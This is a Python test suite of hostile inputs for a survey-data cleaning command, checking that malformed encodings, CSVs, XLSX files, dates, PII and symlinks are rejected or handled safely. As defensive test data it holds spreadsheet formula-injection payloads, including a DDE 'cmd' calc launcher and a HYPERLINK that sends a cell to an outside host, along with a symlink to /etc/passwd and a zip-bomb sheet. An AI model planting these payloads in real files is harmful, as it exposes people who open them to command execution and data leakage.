"""The hostile-input corpus: every input we could construct that once made `jbp clean` exit 3,
lose a value silently, leak PII or publish a mixed set, plus their neighbours.

Each case plants one hostile input into a fresh copy of the session's small simulated sample
and runs ``jbp clean`` into a copy of the untouched sample's outputs. Every case asserts:

* the exit code (2 for bad input, 0 where the input is readable and the run must cope);
* for exit 2: the message names the file (or path) and the problem, and the previous outputs
  are byte-identical;
* no traceback and no "Internal error" anywhere;
* ``data/raw`` (the copy) unchanged by the run;
* for exit 0: rows accounted (each CSV's ``rows_in`` equals its data records), no roster name,
  NIK or phone number in any output, no live formula in any CSV/XLSX output, plus the case's
  own check.

``CLASSES`` groups the cases for the report (corpus size and outcome per class).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from hostile_support import tree_hash

from jbp_analysis.cli import main
from jbp_analysis.core.io import FORMULA_START

SECRET = "hostile-corpus-secret-0123456789"
BASE = "responden_baseline.csv"
FOLLOW = "responden_followup.csv"
END_X = "responden_endline.xlsx"
ASSIGN = "penugasan_kelompok.csv"
COST = "biaya_program.csv"


# ----------------------------------------------------------------------------- planting helpers
def read(raw: Path, name: str) -> pd.DataFrame:
    data = (raw / name).read_bytes()
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("latin-1")
    first = text.split("\n", 1)[0]
    sep = ";" if first.count(";") > first.count(",") else ","
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, sep=sep)


def write(raw: Path, name: str, df: pd.DataFrame, **kw) -> None:
    df.to_csv(raw / name, index=False, lineterminator="\n", **kw)


def edit(name: str, fn: Callable[[pd.DataFrame], None], **kw) -> Callable[[Path], None]:
    def plant(raw: Path) -> None:
        df = read(raw, name)
        fn(df)
        write(raw, name, df, **kw)

    return plant


def cell(name: str, column: str, row: int, value: str) -> Callable[[Path], None]:
    """Set data row ``row`` (1-based) of ``column`` in CSV ``name``."""

    def fn(df: pd.DataFrame) -> None:
        df.loc[row - 1, column] = value

    return edit(name, fn)


def raw_bytes(name: str, fn: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def plant(raw: Path) -> None:
        (raw / name).write_bytes(fn((raw / name).read_bytes()))

    return plant


def sheet_xml(fn: Callable[[str], str], *, name: str = END_X) -> Callable[[Path], None]:
    """Rewrite the first worksheet's XML of an XLSX export."""

    def plant(raw: Path) -> None:
        p = raw / name
        with zipfile.ZipFile(p) as z:
            parts = {i.filename: z.read(i.filename) for i in z.infolist()}
        parts["xl/worksheets/sheet1.xml"] = fn(parts["xl/worksheets/sheet1.xml"].decode()).encode()
        with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
            for k, v in parts.items():
                z.writestr(k, v)

    return plant


def all_of(*plants: Callable[[Path], None]) -> Callable[[Path], None]:
    def plant(raw: Path) -> None:
        for p in plants:
            p(raw)

    return plant


def _mixed(raw: Path) -> None:
    df = read(raw, BASE)
    df.loc[1, "meta/kode_enumerator"] = "ENUM-Zoë"  # UTF-8 elsewhere in the file
    df.loc[5, "meta/kode_enumerator"] = "ENUM-José"
    write(raw, BASE, df)
    data = (raw / BASE).read_bytes()
    (raw / BASE).write_bytes(data.replace("ENUM-José".encode(), "ENUM-José".encode("latin-1")))


def _latin1(raw: Path) -> None:
    df = read(raw, BASE)
    df.loc[0, "meta/kode_enumerator"] = "ENUM-José"
    write(raw, BASE, df, encoding="latin-1")


def _blank_lines(raw: Path, *, at: int) -> None:
    """Bad age on data row 4, and a blank line before line ``at`` (1 = before the header)."""
    df = read(raw, BASE)
    df.loc[3, "latar/umur"] = "umur-salah"
    write(raw, BASE, df)
    lines = (raw / BASE).read_bytes().split(b"\n")
    lines.insert(at - 1, b"")
    (raw / BASE).write_bytes(b"\n".join(lines))


def _second_sheet(raw: Path) -> None:
    import openpyxl

    p = raw / END_X
    wb = openpyxl.load_workbook(p)
    ws = wb.worksheets[0]
    data = wb.create_sheet("data")
    for row in ws.iter_rows(values_only=True):
        data.append(list(row))
    wb.remove(ws)
    wb.create_sheet("Sheet1", 0)
    wb.save(p)


def _ole(raw: Path, *, encrypted: bool) -> None:
    body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    if encrypted:
        body += "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le")
    (raw / END_X).write_bytes(body + os.urandom(2048))


def _zip_bomb(raw: Path) -> None:
    def fn(xml: str) -> str:
        return xml.replace("<sheetData>", "<sheetData>" + " " * (40 << 20), 1)

    sheet_xml(fn)(raw)


def _big_field(raw: Path, *, size: int, unclosed: bool) -> None:
    df = read(raw, BASE)
    write(raw, BASE, df)
    text = (raw / BASE).read_text(encoding="utf-8").splitlines(keepends=True)
    blob = "x" * size
    if unclosed:
        text[3] = text[3].rstrip("\n") + ',"' + blob + "\n"
    else:
        cells = next(csv.reader([text[3]]))
        cells[-3] = blob  # meta/kode_enumerator
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerow(cells)
        text[3] = buf.getvalue()
    (raw / BASE).write_text("".join(text), encoding="utf-8")


def _symlink(target: str) -> Callable[[Path], None]:
    def plant(raw: Path) -> None:
        (raw / FOLLOW).unlink()
        dest = Path(target) if target.startswith("/") else raw / target
        (raw / FOLLOW).symlink_to(dest)

    return plant


def _duplicate_with(values: dict[str, str]) -> Callable[[Path], None]:
    """A conflicting duplicate of data row 1 (same respondent id, other answers) carrying
    ``values``, so the row reaches duplicates_report.csv and rejects.csv."""

    def fn(df: pd.DataFrame) -> None:
        twin = df.iloc[[0]].copy()
        twin["_uuid"] = "dup-" + twin["_uuid"]
        twin["latar/umur"] = "29"
        for k, v in values.items():
            twin[k] = v
            df.loc[0, k] = v
        df.loc[len(df)] = twin.iloc[0]

    return edit(BASE, fn)


def _extra_column(raw: Path, header: str) -> None:
    df = read(raw, BASE)
    df[header] = "x"
    write(raw, BASE, df)


def _roster_name(raw: Path) -> str:
    return read(raw, BASE).loc[2, "identitas/nama_responden"]


def _name_in_enumerator(raw: Path) -> None:
    df = read(raw, BASE)
    df.loc[0, "meta/kode_enumerator"] = df.loc[2, "identitas/nama_responden"]
    write(raw, BASE, df)


def _nik_in_household(raw: Path) -> None:
    df = read(raw, BASE)
    df.loc[0, "identitas/id_rumah_tangga"] = df.loc[0, "identitas/nik"]
    write(raw, BASE, df)


# ----------------------------------------------------------------------------- output checks
def _outputs_text(out: Path) -> str:
    parts = []
    for p in sorted(out.iterdir()):
        if p.suffix == ".parquet":
            df = pd.read_parquet(p)
            parts.append(df.astype(str).to_csv(index=False))
        elif p.is_file():
            parts.append(p.read_text(encoding="utf-8", errors="replace"))
    return "\n".join(parts)


def _harmless(v: str) -> bool:
    """A sign followed only by digits, separators, an exponent, "Rp" or "juta"/"ribu": no
    function, reference or operator a spreadsheet could run."""
    return bool(
        re.fullmatch(r"[+-]\s*(rp\.?)?[\d\s.,]*(e[+-]?\d+)?\s*(juta|jt|ribu|rb)?\s*", v.lower())
    )


def formula_cells(folder: Path) -> list[str]:
    """Cells of every CSV/XLSX under ``folder`` that a spreadsheet would run as a formula."""
    import openpyxl

    found = []
    for p in sorted(folder.rglob("*")):
        if p.suffix == ".csv":
            text = p.read_text(encoding="utf-8-sig", errors="replace")
            for i, row in enumerate(csv.reader(io.StringIO(text))):
                for v in row:
                    if v[:1] in FORMULA_START and not _harmless(v):
                        found.append(f"{p.name}:{i}:{v[:30]}")
        elif p.suffix == ".xlsx":
            wb = openpyxl.load_workbook(p)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        if c.data_type == "f" or (
                            isinstance(c.value, str) and c.value[:1] in FORMULA_START
                            and not _harmless(c.value)
                        ):  # fmt: skip
                            found.append(f"{p.name}:{ws.title}:{c.coordinate}")
    return found


def _csv_records(path: Path) -> int:
    data = path.read_bytes()
    for enc in ("utf-8-sig", "latin-1"):
        try:
            text = data.decode(enc)
            break
        except UnicodeDecodeError:
            continue
    sep = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    rows = [r for r in csv.reader(io.StringIO(text, newline=""), delimiter=sep) if any(r)]
    return len(rows) - 1


def accounted(out: Path, raw: Path) -> None:
    manifest = json.loads((out / "manifest.json").read_text())
    for f in manifest["inputs"]:
        parts = sum(
            f[k]
            for k in (
                "kept",
                "rejected",
                "exact_duplicates",
                "near_duplicates",
                "decided_duplicates",
            )
        )
        assert f["rows_in"] == parts, f
        p = raw / f["file"]
        if p.suffix == ".csv" and f.get("wave_from_column") is None:
            assert f["rows_in"] == _csv_records(p), (f["file"], f["rows_in"])


def no_pii(out: Path, roster: dict[str, set[str]]) -> None:
    text = _outputs_text(out)
    for kind, values in roster.items():
        leaked = [v for v in values if len(v) >= 6 and v in text]
        assert not leaked, f"{kind} leaked into the outputs: {len(leaked)} values"


def roster_of(raw: Path) -> dict[str, set[str]]:
    df = read(raw, BASE)
    return {
        "name": set(df["identitas/nama_responden"].str.strip()) - {""},
        "nik": set(df["identitas/nik"].str.strip()) - {""},
        "phone": set(df["identitas/no_hp"].str.strip()) - {""},
    }


def log_rows(out: Path, file: str, column: str) -> set[int]:
    log = pd.read_csv(out / "cleaning_log.csv", dtype=str, keep_default_na=False)
    rej = pd.read_csv(out / "rejects.csv", dtype=str, keep_default_na=False)
    rows = set(log.loc[(log["file"] == file) & (log["column"] == column), "row"].astype(int))
    rows |= set(
        rej.loc[(rej["file"] == file) & rej["values"].str.contains("umur-salah"), "row"].astype(int)
    )
    return rows


# ----------------------------------------------------------------------------- the corpus
@dataclass(frozen=True)
class Case:
    id: str
    cls: str
    plant: Callable[[Path], None]
    code: int
    says: tuple[str, ...] = ()
    file: str | None = None
    check: Callable[[Path, Path], None] | None = None
    args: tuple[str, ...] = ()
    #: Not yet delivered: the module that owns the fix (the case is an expected failure until
    #: then, and reports XPASS once it is fixed).
    pending: str | None = None


def _ck_rows(expected: int) -> Callable[[Path, Path], None]:
    def check(out: Path, raw: Path) -> None:
        assert expected in log_rows(out, BASE, "age"), log_rows(out, BASE, "age")

    return check


def _ck_latin1(out: Path, raw: Path) -> None:
    panel = pd.read_parquet(out / "panel.parquet")
    assert "ENUM-José" in set(panel["enumerator_id"].astype(str))


def _ck_cached_formula(out: Path, raw: Path) -> None:
    panel = pd.read_parquet(out / "panel.parquet")
    ages = panel.loc[panel["wave"].astype(str) == "endline", "age"].dropna()
    assert len(ages) > 10  # the cached values were read, not blanks


def _ck_logged_text(text: str) -> Callable[[Path, Path], None]:
    def check(out: Path, raw: Path) -> None:
        body = (out / "cleaning_log.csv").read_text() + (out / "rejects.csv").read_text()
        assert text in body, f"{text!r} is not in the log or rejects"
        assert "-9223372036854775808" not in body

    return check


def _ck_date_flagged(text: str) -> Callable[[Path, Path], None]:
    def check(out: Path, raw: Path) -> None:
        body = (out / "cleaning_log.csv").read_text() + (out / "rejects.csv").read_text()
        assert text in body, f"date {text} is neither logged nor rejected"

    return check


def _ck_masked(out: Path, raw: Path) -> None:
    q = json.loads((out / "quality.json").read_text())
    assert sum(n for t in q.get("pii_masked", {}).values() for n in t.values()) >= 1
    log = pd.read_csv(out / "cleaning_log.csv", dtype=str, keep_default_na=False)
    assert (log["rule"] == "pii_masked").any()


def _ck_no_formula(payload: str) -> Callable[[Path, Path], None]:
    def check(out: Path, raw: Path) -> None:
        assert not formula_cells(out)
        body = "".join(p.read_text() for p in out.glob("*.csv"))
        body += pd.read_parquet(out / "panel.parquet").astype(str).to_csv()
        flat = body.replace('"', "").replace("\\", "")
        assert payload.replace('"', "") in flat  # kept, as text: not lost

    return check


CASES = [
    # encoding
    Case("mixed-utf8-latin1", "encoding", _mixed, 2, ("mixed encodings", "line 7"), BASE),
    Case("latin1-whole-file", "encoding", _latin1, 0, check=_ck_latin1),
    Case(
        "utf16",
        "encoding",
        raw_bytes(BASE, lambda b: b.decode().encode("utf-16")),
        2,
        ("UTF-16",),
        BASE,
    ),
    Case(
        "cp1252-quotes",
        "encoding",
        raw_bytes(BASE, lambda b: b.replace(b"ENUM-", b"\x93ENUM-", 1)),
        2,
        ("neither UTF-8 nor Latin-1",),
        BASE,
    ),
    Case(
        "nul-bytes",
        "encoding",
        raw_bytes(BASE, lambda b: b[:200] + b"\0\0" + b[200:]),
        2,
        ("encoding",),
        BASE,
    ),
    Case(
        "bom-semicolon-decimal-comma",
        "encoding",
        edit(
            BASE,
            lambda df: df.__setitem__(
                "meta/durasi_menit", df["meta/durasi_menit"].str.replace(".", ",")
            ),
            sep=";",
            encoding="utf-8-sig",
        ),
        0,
    ),
    Case("crlf", "encoding", raw_bytes(BASE, lambda b: b.replace(b"\n", b"\r\n")), 0),
    # CSV structure
    Case("blank-first-line", "csv", lambda r: _blank_lines(r, at=1), 0, check=_ck_rows(5)),
    Case("blank-line-inside", "csv", lambda r: _blank_lines(r, at=4), 0, check=_ck_rows(5)),
    Case("empty-file", "csv", raw_bytes(BASE, lambda b: b""), 2, ("empty",), BASE),
    Case(
        "header-only",
        "csv",
        raw_bytes(BASE, lambda b: b.split(b"\n")[0] + b"\n"),
        2,
        ("no data rows",),
        BASE,
    ),
    Case(
        "ragged-row",
        "csv",
        raw_bytes(BASE, lambda b: b.replace(b"\n", b',"extra"\n', 3)),
        2,
        ("malformed",),
        BASE,
    ),
    Case(
        "field-2mb",
        "csv",
        lambda r: _big_field(r, size=2 << 20, unclosed=False),
        2,
        ("single field", "limit"),
        BASE,
    ),
    Case(
        "unclosed-quote-17mb",
        "csv",
        lambda r: _big_field(r, size=17 << 20, unclosed=True),
        2,
        ("quote",),
        BASE,
    ),
    Case(
        "duplicate-headers",
        "csv",
        raw_bytes(BASE, lambda b: b.replace(b"latar/umur", b"latar/jenis_kelamin", 1)),
        2,
        ("duplicate column header",),
        BASE,
    ),
    Case("binary-garbage", "csv", raw_bytes(BASE, lambda b: bytes(range(256)) * 40), 2, (), BASE),
    # XLSX
    Case(
        "xlsx-formula-no-cached-value",
        "xlsx",
        sheet_xml(
            lambda x: re.sub(r'<c r="L(\d+)"><v>(\d+)</v></c>', r'<c r="L\1"><f>0+\2</f></c>', x)
        ),
        2,
        ("formula cell", "no saved value", "Sheet1", "L2"),
        END_X,
    ),
    Case(
        "xlsx-formula-cached-value",
        "xlsx",
        sheet_xml(
            lambda x: re.sub(
                r'<c r="L(\d+)"><v>(\d+)</v></c>', r'<c r="L\1"><f>0+\2</f><v>\2</v></c>', x
            )
        ),
        0,
        check=_ck_cached_formula,
    ),
    Case(
        "xlsx-data-on-second-sheet",
        "xlsx",
        _second_sheet,
        2,
        ("Sheet1", "no data rows", "'data'"),
        END_X,
    ),
    Case(
        "xlsx-password-protected",
        "xlsx",
        lambda r: _ole(r, encrypted=True),
        2,
        ("password-protected",),
        END_X,
    ),
    Case(
        "xls-named-xlsx",
        "xlsx",
        lambda r: _ole(r, encrypted=False),
        2,
        ("old-format Excel",),
        END_X,
    ),
    Case("xlsx-zip-bomb", "xlsx", _zip_bomb, 2, ("zip bomb", "not read"), END_X),
    Case(
        "xlsx-not-a-zip",
        "xlsx",
        raw_bytes(END_X, lambda b: b"id,name\n1,x\n"),
        2,
        ("corrupt",),
        END_X,
    ),
    Case(
        "xlsx-truncated",
        "xlsx",
        raw_bytes(END_X, lambda b: b[: len(b) // 2]),
        2,
        ("corrupt",),
        END_X,
    ),
    # raw folder
    Case(
        "symlink-outside-raw", "raw-folder", _symlink("/etc/passwd"), 2, ("symbolic link",), FOLLOW
    ),
    Case(
        "symlink-inside-raw",
        "raw-folder",
        _symlink("kelompok_followup.csv"),
        2,
        ("symbolic link",),
        FOLLOW,
    ),
    # dates
    Case(
        "date-0001-01-01",
        "dates",
        cell(BASE, "meta/tanggal_wawancara", 2, "0001-01-01"),
        0,
        check=_ck_date_flagged("0001-01-01"),
    ),
    Case(
        "date-2262-04-12",
        "dates",
        cell(BASE, "meta/tanggal_wawancara", 2, "2262-04-12"),
        0,
        check=_ck_date_flagged("2262-04-12"),
    ),
    Case(
        "date-2999-01-01",
        "dates",
        cell(BASE, "meta/tanggal_wawancara", 2, "2999-01-01"),
        0,
        check=_ck_date_flagged("2999-01-01"),
    ),
    Case(
        "date-2099-outside-window",
        "dates",
        cell(BASE, "meta/tanggal_wawancara", 2, "2099-06-01"),
        0,
        check=_ck_date_flagged("2099-06-01"),
    ),
    Case(
        "date-1900-outside-window",
        "dates",
        cell(BASE, "meta/tanggal_wawancara", 2, "1900-01-01"),
        0,
        check=_ck_date_flagged("1900-01-01"),
    ),
    Case(
        "submission-time-0001", "dates", cell(BASE, "_submission_time", 2, "0001-01-01T00:00:00"), 0
    ),
    # numbers
    Case(
        "age-1e30",
        "numbers",
        cell(BASE, "latar/umur", 2, "1e30"),
        0,
        check=_ck_logged_text("1e30"),
    ),
    Case(
        "income-overflow",
        "numbers",
        cell(BASE, "pendapatan/pendapatan_rumah_tangga", 2, "99999999999999999999999"),
        0,
        check=_ck_logged_text("99999999999999999999999"),
    ),
    Case(
        "age-inf-nan",
        "numbers",
        all_of(cell(BASE, "latar/umur", 2, "inf"), cell(BASE, "latar/umur", 3, "NaN")),
        2,  # neither is an age: 2% of the column unreadable, above the study's 1% threshold
        ("unreadable", "'inf'", "latar/umur"),
        BASE,
    ),
    # spreadsheet injection
    Case(
        "formula-hyperlink-in-duplicates",
        "injection",
        _duplicate_with({"meta/kode_enumerator": '=HYPERLINK("http://x.example/?"&A1,"klik")'}),
        0,
        check=_ck_no_formula("=HYPERLINK("),
    ),
    Case(
        "formula-cmd-in-rejects",
        "injection",
        all_of(
            cell(BASE, "identitas/id_responden", 2, ""),
            cell(BASE, "meta/kode_enumerator", 2, "=cmd|' /C calc'!A0"),
        ),
        0,
        check=_ck_no_formula("=cmd|' /C calc'!A0"),
    ),
    Case(
        "formula-at-plus-minus-tab",
        "injection",
        _duplicate_with(
            {"meta/kode_enumerator": "@SUM(1+1)", "lokasi/kabupaten_kota": "+cmd", "_uuid": "-2+3"}
        ),
        0,
        check=_ck_no_formula("@SUM(1+1)"),
    ),
    # PII outside its columns
    Case("name-in-enumerator-code", "pii", _name_in_enumerator, 0, check=_ck_masked),
    Case("nik-in-household-id", "pii", _nik_in_household, 0, check=_ck_masked),
    Case(
        "phone-in-enumerator-code",
        "pii",
        cell(BASE, "meta/kode_enumerator", 2, "0812-3456-7890"),
        0,
        check=_ck_masked,
    ),
    # assignment and costs: rejected rows remove groups from every estimate
    Case(
        "assignment-invalid-kohort",
        "assignment",
        cell(ASSIGN, "kohort", 1, "9"),
        2,
        ("kohort|cohort",),
        ASSIGN,
    ),
    Case(
        "cost-unknown-group",
        "assignment",
        cell(COST, "id_kelompok", 1, "3322-C9-G99"),
        2,
        ("group",),
        COST,
    ),
    # messages
    Case(
        "escape-codes-in-header", "messages", lambda r: _extra_column(r, "\x1b[31mEVIL\x1b[0m"), 0
    ),
    Case("very-long-unknown-header", "messages", lambda r: _extra_column(r, "h" * 5000), 0),
]
CLASSES = sorted({c.cls for c in CASES})


@pytest.fixture(autouse=True)
def _secret(monkeypatch):
    # a planted file is no longer the simulated sample, so the run needs a project secret
    monkeypatch.setenv("JBP_SECRET", SECRET)


def _run(raw: Path, out: Path, capsys, *args: str) -> tuple[int, str, str]:
    rc = main(["clean", "--raw", str(raw), "--out", str(out), *args])
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


PARAMS = [
    pytest.param(
        c,
        id=c.id,
        marks=[pytest.mark.xfail(reason=f"not delivered yet: {c.pending}", strict=False)]
        if c.pending
        else [],
    )
    for c in CASES
]


@pytest.mark.parametrize("case", PARAMS)
def test_hostile_input(case: Case, raw_copy, prev_out, capsys):
    case.plant(raw_copy)
    raw_before = tree_hash(raw_copy) | {
        str(p.relative_to(raw_copy)): "link" for p in raw_copy.iterdir() if p.is_symlink()
    }
    prev_before = tree_hash(prev_out)
    rc, out, err = _run(raw_copy, prev_out, capsys, *case.args)
    text = out + err
    assert "Traceback" not in text and "Internal error" not in text, text[-2000:]
    assert "\x1b" not in text, "an escape sequence from the input reached the terminal"
    assert max((len(ln) for ln in text.splitlines()), default=0) < 4000, (
        "a message echoes a long value"
    )
    after = tree_hash(raw_copy) | {
        str(p.relative_to(raw_copy)): "link" for p in raw_copy.iterdir() if p.is_symlink()
    }
    assert after == raw_before, "the raw folder changed"
    assert rc == case.code, text[-3000:]
    if rc == 2:
        assert case.file is None or case.file in err, err
        for pattern in case.says:
            assert re.search(pattern, err), (pattern, err)
        assert "root:x:" not in err
        assert tree_hash(prev_out) == prev_before, "previous outputs changed"
    else:
        accounted(prev_out, raw_copy)
        no_pii(prev_out, roster_of(raw_copy))
        assert not formula_cells(prev_out)
        if case.check is not None:
            case.check(prev_out, raw_copy)


# ----------------------------------------------------------------------------- outputs and home
def test_out_is_an_existing_file(raw_copy, tmp_path, capsys):
    target = tmp_path / "not-a-folder"
    target.write_text("keep me")
    rc, _, err = _run(raw_copy, target, capsys)
    assert rc == 2 and "is an existing file" in err and str(target) in err
    assert target.read_text() == "keep me"


def test_out_read_only(raw_copy, tmp_path, capsys):
    rc, _, err = _run(raw_copy, Path("/sys/jbp-hostile"), capsys)
    assert rc == 2 and "/sys" in err and "Traceback" not in err


def test_out_inside_raw(raw_copy, capsys):
    before = tree_hash(raw_copy)
    rc, _, err = _run(raw_copy, raw_copy / "processed", capsys)
    assert rc == 2 and "inside the raw folder" in err
    assert tree_hash(raw_copy) == before and not (raw_copy / ".processed.jbp").exists()


def test_second_writer_exits_2_naming_the_holder(raw_copy, prev_out, capsys):
    from jbp_analysis.core.publish import OutputLock

    before = tree_hash(prev_out)
    with OutputLock(prev_out, command="jbp clean"):
        rc, _, err = _run(raw_copy, prev_out, capsys)
    assert rc == 2
    assert re.search(
        rf"another `jbp clean` is writing {re.escape(str(prev_out))} \(pid {os.getpid()}, since ",
        err,
    )
    assert tree_hash(prev_out) == before


def test_unreadable_home_exits_2(raw_copy, prev_out, capsys, monkeypatch):
    cell(BASE, "meta/kode_enumerator", 1, "E99")(raw_copy)  # no longer the simulated sample
    monkeypatch.delenv("JBP_SECRET")

    def home(*_a, **_k):
        raise PermissionError(13, "Permission denied", "/home/enumerator")

    monkeypatch.setattr(Path, "home", classmethod(home))
    before = tree_hash(prev_out)
    rc, _, err = _run(raw_copy, prev_out, capsys)
    assert rc == 2 and "home folder" in err and "JBP_SECRET" in err, err
    assert tree_hash(prev_out) == before


def test_unreadable_secret_file_exits_2(raw_copy, prev_out, capsys, monkeypatch, tmp_path):
    cell(BASE, "meta/kode_enumerator", 1, "E99")(raw_copy)
    monkeypatch.delenv("JBP_SECRET")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    secret = tmp_path / "home" / ".config" / "jbp" / "secret"
    secret.parent.mkdir(parents=True)
    secret.write_text("x" * 40)
    real = Path.read_bytes

    def read_bytes(self):
        if self == secret:
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    rc, _, err = _run(raw_copy, prev_out, capsys)
    assert rc == 2 and "cannot read the project secret file" in err and str(secret) in err


def test_every_csv_and_xlsx_of_a_clean_and_report_run_holds_no_formula(tmp_path):
    """Formula injection over every CSV and XLSX we write: a fixture processed set whose text
    columns carry payloads goes through the report exporters (tables CSV + workbook), and the
    clean outputs of the corpus are checked per case above."""
    from jbp_analysis.core.io import write_csv, write_xlsx
    from jbp_analysis.report.export import write_csv as report_csv
    from jbp_analysis.report.export import write_workbook

    payloads = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")', "-5", "3"]
    df = pd.DataFrame({"=bad header": payloads, "n": range(len(payloads))})
    root = tmp_path / "r"
    root.mkdir()
    write_csv(df, root / "a.csv")
    write_xlsx({"t": df}, root / "a.xlsx")
    report_csv(df, root / "b.csv", root=root)
    write_workbook({"t": df}, root / "b.xlsx", root=root, about=df)
    assert not formula_cells(root)
    back = pd.read_csv(root / "a.csv", dtype=str)
    assert back.iloc[:, 0].tolist()[-2:] == ["-5", "3"]  # numbers untouched


def test_corpus_size_and_classes():
    assert len(CASES) + 7 >= 40
    assert set(CLASSES) >= {
        "encoding",
        "csv",
        "xlsx",
        "raw-folder",
        "dates",
        "numbers",
        "injection",
        "pii",
    }


def _export_with_aliases(raw: Path, study: Path, kind: str) -> tuple[int, int]:
    """Convert responden_baseline.csv to ``kind`` (dta/sav) with the names that format allows,
    and write the aliases that map them back into a copy of the study folder. Returns the
    number of headers the format could not carry as they are, and the number of rows."""
    import shutil

    import pyreadstat
    import yaml

    from jbp_analysis.core.paths import STUDY_DIR
    from jbp_analysis.study.codebook import load_codebook

    shutil.copytree(STUDY_DIR, study)
    df = read(raw, BASE)

    def legal(h: str) -> str:
        name = re.sub(r"[^A-Za-z0-9_]", "_", h.split("/")[-1])
        if kind == "dta":
            return name[:32]  # Stata: at most 32 characters
        return ("v" + name if name.startswith("_") else name)[:64]  # SPSS: starts with a letter

    names = {c: legal(c) for c in df.columns}
    assert len(set(names.values())) == len(names)
    cb = load_codebook()
    aliases = {
        v.name: [names[v.header]]
        for v in cb.module("respondent")
        if v.header in names and names[v.header] != v.header
    }
    doc = yaml.safe_load((study / "aliases.yaml").read_text()) or {}
    doc["headers"] = {"respondent": aliases}
    (study / "aliases.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True))
    out = df.rename(columns=names)
    writer = pyreadstat.write_dta if kind == "dta" else pyreadstat.write_sav
    writer(out, str(raw / f"responden_baseline.{kind}"))
    (raw / BASE).unlink()
    cut = [h for h in df.columns if len(h.split("/")[-1]) > 32] if kind == "dta" else ["_uuid"]
    return len(cut), len(df)


@pytest.mark.parametrize("kind", ["dta", "sav"])
def test_exports_that_cannot_carry_codebook_headers_read_through_aliases(
    kind, raw_copy, prev_out, tmp_path, capsys
):
    """Stata cuts ``ks08_anggaran_bukan_urusan_pemuda`` (33 characters) to 32; SPSS cannot name
    a variable ``_uuid``. With the study's aliases the export cleans like the CSV."""
    n_cut, n_rows = _export_with_aliases(raw_copy, tmp_path / "study", kind)
    assert n_cut >= 1
    rc, out, err = _run(raw_copy, prev_out, capsys, "--study", str(tmp_path / "study"))
    assert rc == 0, (out + err)[-2000:]
    manifest = json.loads((prev_out / "manifest.json").read_text())
    base = next(f for f in manifest["inputs"] if f["file"] == f"responden_baseline.{kind}")
    assert base["rows_in"] == n_rows and base["kept"] > 0
    panel = pd.read_parquet(prev_out / "panel.parquet")
    awareness = [c for c in panel.columns if c.startswith("ca08")]
    assert (
        awareness and panel.loc[panel["wave"].astype(str) == "baseline", awareness[0]].notna().any()
    )
